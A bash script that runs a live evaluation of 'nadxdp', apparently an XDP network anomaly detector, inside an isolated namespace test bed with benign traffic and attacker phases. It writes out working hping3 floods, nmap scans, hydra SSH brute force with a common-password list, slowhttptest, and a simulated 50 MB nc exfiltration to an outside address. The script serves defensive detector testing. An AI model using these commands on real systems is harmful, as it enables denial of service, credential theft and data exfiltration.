#!/usr/bin/env bash
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
#
# eval-live.sh - the live part of `make eval` (scripts/eval.sh runs it; root).
#
# nadxdp on its defaults, mitigation on, in the namespace test bed (scripts/testbed.sh with
# NADX_NAT=1, prefix $NADX_PREFIX, default "nadxev" so it does not meet a demo's bed), in a
# private mount namespace (lib.sh's private_mounts: its own bpffs and /run), so its pins
# never meet another nadxdp. Every process started here is stopped by its pid and the bed
# is always removed (trap). Only 198.18.0.0/15 inside the bed is used.
#   mon 198.18.0.1   nadxdp on the monitored interface; nginx :80 (small pages, 200 KB-1 MB
#                    assets, a 128 MB file), dnsmasq :53, sshd :22, iperf3 :5201, an nc sink
#                    on :9999, the IoT collector on UDP 1883 and 5683
#   cli 198.18.0.2   benign client, all along: a web page every 0.5 s, an asset every 4 s, a
#                    DNS lookup every 2 s, an ssh login with a key every 20 s
#       198.18.0.4   IoT-like: 40-60 B UDP telemetry to 1883 and 5683 every second
#   nat 198.18.0.5   a home router masquerading (nftables) for 198.18.1.10-17 in the lan
#                    namespace: "many clients behind one NAT address"
#   atk 198.18.0.3   the attacker; it also holds 198.19.0.1, an address outside the home net
#
# Phases, one after the other in this order, each with its start and end recorded
# (EVAL_PHASES="a b" runs only those; "benign" and "attacks" name the two groups):
#   heavy-benign (benign hosts only; the client's browsing and the IoT telemetry go on):
#     browse      60 s of the background traffic alone
#     ab          ApacheBench: 30,000 requests, 16 at a time, from the client
#     iperf3      bulk TCP, client to monitored host, 5 s; iperf3_rev the same with -R
#     download    two 128 MB downloads from nginx
#     stream      a 40 MB download at a steady 2 MB/s (curl --limit-rate)
#     backup      the monitored host uploads 128 MB to the client (nc to :873, rsync's port)
#     nat         eight clients behind the NAT: ab, pages, 1 MB assets and DNS lookups each
#     dns         a busy DNS client: 5,000 lookups in a tight loop (dig -f)
#   attacks (from the attacker, 12 s apart, as before):
#     hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
#     slowhttptest nmap_sV upload_in_nc_9999 (50 MB uploaded by the attacker to :9999 of
#     the monitored host: an inbound upload, scored by no class; its classes are printed)
#     exfil_out_443 (the monitored host, compromised, opens a connection to 198.19.0.1:443
#     outside the home net and uploads 50 MB: data_exfiltration from 198.18.0.1)
# Rules: after each phase's pause the automatic drop rules are listed (with their hits) and
# deleted, so the next phase meets an unblocked bed; EVAL_UNBLOCK=0 deletes the attacker's
# only and leaves rules against benign hosts in place, as an operator would meet them.
# The tables come from scripts/eval-live-report.py, which can print them again from a run
# kept with EVAL_KEEP=1 (python3 scripts/eval-live-report.py DIR).
set -uo pipefail
# shellcheck source=scripts/lib.sh
. "$(dirname "$0")/lib.sh"

need=(hping3 nmap hydra slowhttptest dnsmasq nginx nc curl dig ssh ssh-keygen nsenter python3
	ab iperf3 nft unshare)
miss=()
if [ "$(id -u)" -ne 0 ]; then
	echo "eval: live part skipped (needs root: namespaces and XDP)"
	exit 0
fi
for t in "${need[@]}"; do command -v "$t" >/dev/null || miss+=("$t"); done
[ -x /usr/sbin/sshd ] || miss+=(sshd)
if [ ${#miss[@]} -gt 0 ]; then
	echo "eval: live part skipped, missing: ${miss[*]} (scripts/install-deps.sh)"
	exit 0
fi
private_mounts "$@"

cd "$(dirname "$0")/.." || exit 1
BIN=$(readlink -f "${NADXDP_BIN:-./nadxdp}")
export NADX_PREFIX=${NADX_PREFIX:-nadxev} NADX_NAT=1
TB="$PWD/scripts/testbed.sh"
eval "$(bash "$TB" env)"
WORK=$(mktemp -d /tmp/nadxdp-eval.XXXXXX)
W=$WORK
PIDS=()
IOT_IP=198.18.0.4
read -ra LAN_IPS <<<"$TB_LAN_IPS"
PHASES=" ${EVAL_PHASES:-benign attacks} "
BENIGN=(browse ab iperf3 iperf3_rev download stream backup nat dns)
ATTACKS=(hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
	 slowhttptest nmap_sV upload_in_nc_9999 exfil_out_443)
for p in $PHASES; do
	case " benign attacks ${BENIGN[*]} ${ATTACKS[*]} " in
	*" $p "*) ;;
	*) echo "eval: unknown phase '$p' (benign attacks ${BENIGN[*]} ${ATTACKS[*]})" >&2; exit 2 ;;
	esac
done

stop_all() {
	local p
	# (bash's "Terminated" notices for the background jobs go to the same /dev/null)
	{
		for p in "${PIDS[@]}"; do kill -TERM "$p"; done
		for p in "${PIDS[@]}"; do wait "$p"; done
	} 2>/dev/null
	if [ -n "${EVAL_KEEP:-}" ]; then
		echo "eval: kept $W"
		WORK=/nonexistent-eval-kept
	fi
}
on_exit_teardown stop_all quiet
now() { date +%s.%N; }
# selected KIND NAME: is the phase in EVAL_PHASES (by name or by its group)?
selected() {
	case $PHASES in *" $1 "* | *" $2 "*) return 0 ;; esac
	return 1
}
snap() { "$BIN" status --json --top 64 >"$W/status.$1.json" 2>/dev/null; }

bash "$TB" up >/dev/null || { echo "eval: test bed failed"; exit 1; }
# the IoT address on the client's interface, and the monitored host's neighbour entry
in_ns "$TB_CLI_NS" ip addr add "$IOT_IP/24" dev "$TB_CLI_IF"
in_ns "$TB_MON_NS" ip neigh replace "$IOT_IP" lladdr "$TB_CLI_MAC" dev "$TB_MON_IF" nud permanent

# content: pages, assets of 200 KB-1 MB, a 128 MB file; the attacks' 50 MB upload
mkdir -p "$W/nginx/logs" "$W/www" /run/sshd
head -c 200000 /dev/urandom >"$W/www/asset0.bin"
head -c 500000 /dev/urandom >"$W/www/asset1.bin"
head -c 1000000 /dev/urandom >"$W/www/asset2.bin"
head -c 134217728 /dev/urandom >"$W/www/big.bin"
head -c 50000000 /dev/urandom >"$W/upload.bin"
chmod 755 "$W" # nginx's workers (nobody) read www/

# services in mon
cat >"$W/nginx/nginx.conf" <<EOF
daemon off;
worker_processes 2;
pid $W/nginx/nginx.pid;
error_log $W/nginx/logs/error.log crit;
events { worker_connections 4096; }
http {
	access_log off;
	sendfile on;
	client_body_timeout 30s;
	client_header_timeout 30s;
	server {
		listen $TB_MON_IP:80 backlog=4096;
		location /files/ { alias $W/www/; }
		location / { return 200 "hello from the monitored host\n"; }
	}
}
EOF
in_ns "$TB_MON_NS" nginx -p "$W/nginx" -c "$W/nginx/nginx.conf" & PIDS+=($!)
in_ns "$TB_MON_NS" dnsmasq --keep-in-foreground --no-resolv --no-hosts \
	--listen-address="$TB_MON_IP" --bind-interfaces --port=53 --cache-size=10000 \
	--address=/bed.test/"$TB_MON_IP" --pid-file="$W/dnsmasq.pid" --user=root \
	--log-facility=/dev/null 2>/dev/null & PIDS+=($!)
in_ns "$TB_MON_NS" iperf3 -s -B "$TB_MON_IP" >/dev/null 2>&1 & PIDS+=($!)
ssh-keygen -q -t ed25519 -N '' -f "$W/host_key"
ssh-keygen -q -t ed25519 -N '' -f "$W/user_key"
cp "$W/user_key.pub" "$W/authorized_keys"
cat >"$W/sshd_config" <<EOF
ListenAddress $TB_MON_IP:22
HostKey $W/host_key
PidFile $W/sshd.pid
AuthorizedKeysFile $W/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 100:30:200
EOF
in_ns "$TB_MON_NS" /usr/sbin/sshd -D -e -f "$W/sshd_config" 2>"$W/sshd.log" & PIDS+=($!)
in_ns "$TB_MON_NS" sh -c "while :; do nc -l $TB_MON_IP 9999 >/dev/null || sleep 0.2; done" 2>/dev/null \
	& PIDS+=($!)
# the IoT collector (MQTT-SN/CoAP-like: UDP 1883 and 5683), so telemetry is received
in_ns "$TB_MON_NS" python3 -c '
import select, socket, sys
socks = []
for port in (1883, 5683):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((sys.argv[1], port))
    socks.append(s)
while True:
    for s in select.select(socks, [], [])[0]:
        s.recv(2048)
' "$TB_MON_IP" 2>/dev/null & PIDS+=($!)
for _ in $(seq 50); do
	in_ns "$TB_CLI_NS" curl -s -m 1 -o /dev/null "http://$TB_MON_IP/" && break
	sleep 0.1
done

# nadxdp on its defaults (mitigation on); nsenter execs it: $! is the daemon itself.
nsenter --net="/run/netns/$TB_MON_NS" -- "$BIN" run "$TB_MON_IF" --no-train \
	--retrain-interval 0 -q --summary-interval 0 --log "$W/eve.json" \
	>"$W/daemon.log" 2>&1 & DAEMON=$!
PIDS+=("$DAEMON")
wait_daemon "$DAEMON" /sys/fs/bpf/nadxdp/nad_stats || true
if ! kill -0 "$DAEMON" 2>/dev/null; then
	echo "eval: nadxdp did not start:"; cat "$W/daemon.log"; exit 1
fi
sleep 1
cat >"$W/meta.json" <<EOF
{"cli": "$TB_CLI_IP", "iot": "$IOT_IP", "nat": "$TB_NAT_IP", "mon": "$TB_MON_IP",
 "atk": "$TB_ATK_IP", "ext": "$TB_EXT_IP", "ext_net": "$TB_EXT_NET", "lan": "$TB_LAN_IPS",
 "unblock": "${EVAL_UNBLOCK:-1}"}
EOF

# benign client and IoT device, for the whole run
ssh_login() {
	in_ns "$TB_CLI_NS" ssh -q -i "$W/user_key" -o BatchMode=yes \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o ConnectTimeout=3 "root@$TB_MON_IP" true
}
ssh_login && echo ok >"$W/ssh_ok"
(
	i=0
	while :; do
		in_ns "$TB_CLI_NS" curl -s -m 2 -o /dev/null "http://$TB_MON_IP/page$((i % 7))"
		[ $((i % 8)) -eq 0 ] && in_ns "$TB_CLI_NS" curl -s -m 4 -o /dev/null \
			"http://$TB_MON_IP/files/asset$((i / 8 % 3)).bin"
		[ $((i % 4)) -eq 0 ] && in_ns "$TB_CLI_NS" dig +short +time=1 +tries=1 \
			@"$TB_MON_IP" "host$((i % 13)).bed.test" >/dev/null
		[ $((i % 40)) -eq 0 ] && ssh_login
		i=$((i + 1))
		sleep 0.5
	done
) >/dev/null 2>&1 & PIDS+=($!)
in_ns "$TB_CLI_NS" python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 0))
n = 0
while True:
    for port in (1883, 5683):
        s.sendto(b"t=%d;temp=21.%d;hum=40" % (n, n % 10) + b"x" * (n % 20), (sys.argv[2], port))
    n += 1
    time.sleep(1)
' "$IOT_IP" "$TB_MON_IP" >/dev/null 2>&1 & PIDS+=($!)

# unblock NAME: lists the rules after a phase (kept for the report), then deletes the
# automatic drop rules: all of them, or with EVAL_UNBLOCK=0 the attacker's only.
unblock() {
	local c
	"$BIN" rules list --json >"$W/rules.$1.json" 2>/dev/null
	for c in $(python3 - "$W/rules.$1.json" "${EVAL_UNBLOCK:-1}" "$TB_ATK_IP" "$TB_EXT_NET" <<'PY'
import ipaddress, json, sys
rules = json.load(open(sys.argv[1])).get("rules", [])
every, atk, ext = sys.argv[2] != "0", ipaddress.ip_address(sys.argv[3]), ipaddress.ip_network(sys.argv[4])
for r in rules:
    if r["kind"] != "drop" or r.get("origin") != "auto":
        continue
    net = ipaddress.ip_network(r["cidr"])
    if every or atk in net or net.overlaps(ext):
        print(r["cidr"])
PY
	); do
		"$BIN" rules del "$c" >/dev/null
	done
}

# phase KIND NAME EXPECTED-CLASS EXPECTED-SOURCE PAUSE FUNCTION [ARGS...]: runs FUNCTION
# (its output to out.NAME, its one-line summary of the tool's result to sum.NAME), records
# the phase's start, end and the end of its pause in phases.tsv, the counters around it,
# and the rules after it.
phase() {
	local kind=$1 name=$2 cls=$3 src=$4 pause=$5 fn=$6 s e w rc
	shift 6
	selected "$kind" "$name" || return 0
	snap "$name.0"
	s=$(now)
	"$fn" "$@" >"$W/out.$name" 2>&1
	rc=$?
	e=$(now)
	echo "eval: live: $name done ($(awk -v a="$s" -v b="$e" 'BEGIN { printf "%.1f", b - a }') s," \
		"rc $rc) $(cat "$W/sum.$name" 2>/dev/null)"
	sleep "$pause"
	w=$(now)
	snap "$name.1"
	unblock "$name"
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$kind" "$name" "$cls" "$src" "$s" "$e" "$w" \
		"$rc" >>"$W/phases.tsv"
}
summary() { echo "$*" >"$W/sum.$CUR"; }

# ---- heavy-benign scenarios (CUR names the phase for summary) --------------------------
p_browse() { CUR=browse; sleep 60; summary "background browsing and IoT only"; }
p_ab() {
	CUR=ab
	in_ns "$TB_CLI_NS" timeout 120 ab -q -r -s 5 -n 30000 -c 16 "http://$TB_MON_IP/" >"$W/ab.txt"
	local rc=$?
	summary "$(awk '/^Complete requests/ { c = $3 } /^Failed requests/ { f = $3 }
		/^Requests per second/ { r = $4 } END { printf "%s requests, %s failed, %d req/s",
		c, f, r }' "$W/ab.txt")"
	return $rc
}
p_iperf3() { # [-R]
	CUR=iperf3$([ $# -gt 0 ] && echo _rev)
	in_ns "$TB_CLI_NS" timeout 30 iperf3 -c "$TB_MON_IP" -t 5 --connect-timeout 3000 "$@" \
		>"$W/$CUR.txt"
	local rc=$?
	summary "$(awk '/receiver$/ { v = $7 " " $8 } END { print (v ? v : "no result") }' \
		"$W/$CUR.txt")$([ $# -gt 0 ] && echo ", monitored host to client")"
	return $rc
}
get() { # NS URL [curl options]: prints "bytes bytes/s http-code"
	local ns=$1 url=$2
	shift 2
	in_ns "$ns" curl -s -o /dev/null -w '%{size_download} %{speed_download} %{http_code}\n' \
		"$@" "$url"
}
p_download() {
	CUR=download
	local rc=0 i
	for i in 1 2; do
		get "$TB_CLI_NS" "http://$TB_MON_IP/files/big.bin" -m 60 >>"$W/download.txt" || rc=$?
	done
	summary "$(awk '{ b += $1; r = r sprintf(" %.0f MB/s", $2 / 1e6) }
		END { printf "%.0f MB in %d downloads at%s", b / 1e6, NR, r }' "$W/download.txt")"
	return $rc
}
p_stream() {
	CUR=stream
	get "$TB_CLI_NS" "http://$TB_MON_IP/files/big.bin" -m 40 --limit-rate 2M -r 0-39999999 \
		>"$W/stream.txt"
	local rc=$?
	summary "$(awk '{ printf "%.0f MB at %.2f MB/s", $1 / 1e6, $2 / 1e6 }' "$W/stream.txt")"
	return $rc
}
# push RX-NS ADDR PORT FILE WHERE: the monitored host opens a connection to ADDR:PORT, where
# an nc in RX-NS listens, and sends FILE (60 s at most); the summary says how much arrived.
push() {
	local ns=$1 addr=$2 port=$3 file=$4 where=$5 rx rc
	in_ns "$ns" timeout 60 sh -c "nc -l $addr $port | wc -c" >"$W/$CUR.txt" &
	rx=$!
	for _ in $(seq 50); do
		in_ns "$ns" ss -Hltn "src $addr:$port" | grep -q . && break
		sleep 0.1
	done
	in_ns "$TB_MON_NS" timeout 60 nc -N "$addr" "$port" <"$file"
	rc=$?
	wait "$rx"
	summary "$(awk -v w="$where" '{ printf "%.0f MB received %s", $1 / 1e6, w }' "$W/$CUR.txt")"
	return $rc
}
p_backup() { CUR=backup; push "$TB_CLI_NS" "$TB_CLI_IP" 873 "$W/www/big.bin" "by the client"; }
p_nat() {
	CUR=nat
	local ip pids=() rc=0 p
	for ip in "${LAN_IPS[@]}"; do
		seq 1 100 | sed "s/.*/lan-${ip##*.}-&.bed.test A/" >"$W/nat-$ip.q"
		in_ns "$TB_LAN_NS" timeout 60 sh -c "
			ab -q -r -s 5 -B $ip -n 1500 -c 2 http://$TB_MON_IP/ | grep -E '^(Complete|Failed)'
			for i in \$(seq 10); do
				curl -s -m 5 -o /dev/null -w 'page %{http_code}\n' --interface $ip \
					http://$TB_MON_IP/page\$i
				curl -s -m 10 -o /dev/null -w 'asset %{http_code}\n' --interface $ip \
					http://$TB_MON_IP/files/asset2.bin
			done
			dig -b $ip @$TB_MON_IP +short +tries=1 +time=1 -f $W/nat-$ip.q | grep -c .
		" >"$W/nat-$ip.txt" 2>&1 &
		pids+=($!)
	done
	for p in "${pids[@]}"; do wait "$p" || rc=$?; done
	summary "$(cat "$W"/nat-*.txt | awk '/^Complete/ { c += $3 } /^Failed/ { f += $3 }
		/ 200$/ { ok++ } /^[0-9]+$/ { d += $1 }
		END { printf "%d clients: %d ab requests (%d failed), %d pages and assets, " \
		"%d DNS answers", '"${#LAN_IPS[@]}"', c, f, ok, d }')"
	return $rc
}
p_dns() {
	CUR=dns
	seq 1 5000 | sed 's/.*/name-&.bed.test A/' >"$W/dns.q"
	# 30 s at most: once a rule drops the client, each lookup waits 1 s for nothing
	in_ns "$TB_CLI_NS" timeout 30 dig -b "$TB_CLI_IP" @"$TB_MON_IP" +short +tries=1 +time=1 \
		-f "$W/dns.q" >"$W/dns.txt"
	local rc=$?
	summary "5000 lookups, $(grep -c . "$W/dns.txt") answered"
	return $rc
}

# ---- attacks ----------------------------------------------------------------------------
# 60 guesses: with sshd's default MaxAuthTries 6, hydra needs about 15 connections
for w in 123456 password admin root toor letmein qwerty 12345678 111111 abc123 \
	 dragon master monkey shadow sunshine princess football iloveyou 000000 \
	 welcome login passw0rd 1234 12345 654321 superman batman trustno1 hello; do
	echo "$w"
	echo "${w}1"
done >"$W/words"
atk() { in_ns "$TB_ATK_NS" "$@"; }
p_exfil() { CUR=exfil_out_443; push "$TB_ATK_NS" "$TB_EXT_IP" 443 "$W/upload.bin" outside; }

echo "eval: live: nadxdp on $TB_MON_IF, mitigation on; phases:$PHASES"
B=benign
phase $B browse - "$TB_CLI_IP" 0 p_browse
phase $B ab - "$TB_CLI_IP" 6 p_ab
phase $B iperf3 - "$TB_CLI_IP" 6 p_iperf3
phase $B iperf3_rev - "$TB_CLI_IP" 6 p_iperf3 -R
phase $B download - "$TB_CLI_IP" 6 p_download
phase $B stream - "$TB_CLI_IP" 6 p_stream
phase $B backup - "$TB_MON_IP" 6 p_backup
phase $B nat - "$TB_NAT_IP" 6 p_nat
phase $B dns - "$TB_CLI_IP" 6 p_dns

A=attacks X=$TB_ATK_IP
phase $A hping3_syn_flood dos_attack "$X" 12 atk timeout 4 hping3 -q -S -p 80 --flood "$TB_MON_IP"
phase $A nmap_sS scanning "$X" 12 atk nmap -n -Pn -sS -p 1-1000 -T4 --max-retries 1 "$TB_MON_IP"
phase $A hping3_udp_flood dos_attack "$X" 12 atk timeout 4 hping3 -q --udp -p 7000 --flood \
	"$TB_MON_IP"
phase $A nmap_sT scanning "$X" 12 atk nmap -n -Pn -sT -p 1-1000 -T4 --max-retries 1 "$TB_MON_IP"
phase $A hping3_icmp_flood dos_attack "$X" 12 atk timeout 4 hping3 -q --icmp --flood "$TB_MON_IP"
phase $A hydra_ssh credential_stuffing "$X" 12 atk timeout 60 sh -c \
	"cd '$W' && hydra -l admin -P '$W/words' -t 4 -I ssh://$TB_MON_IP"
phase $A nmap_sU scanning "$X" 12 atk timeout 30 nmap -n -Pn -sU -p 1-200 -T4 --max-retries 1 \
	--min-rate 200 "$TB_MON_IP"
phase $A slowhttptest dos_attack "$X" 12 atk timeout 25 slowhttptest -H -c 300 -i 5 -r 100 -l 15 \
	-u "http://$TB_MON_IP/" -p 3 -x 24
phase $A nmap_sV scanning "$X" 12 atk timeout 60 nmap -n -Pn -sV -p 1-100 -T4 --max-retries 1 \
	--version-light "$TB_MON_IP"
phase $A upload_in_nc_9999 - "$X" 12 atk timeout 30 sh -c "nc -N $TB_MON_IP 9999 <'$W/upload.bin'"
phase $A exfil_out_443 data_exfiltration "$TB_MON_IP" 12 p_exfil

# packets each source sent over the whole run (the kernel's per-source counters)
snap end
kill -TERM "$DAEMON"
wait "$DAEMON"
python3 scripts/eval-live-report.py "$W"
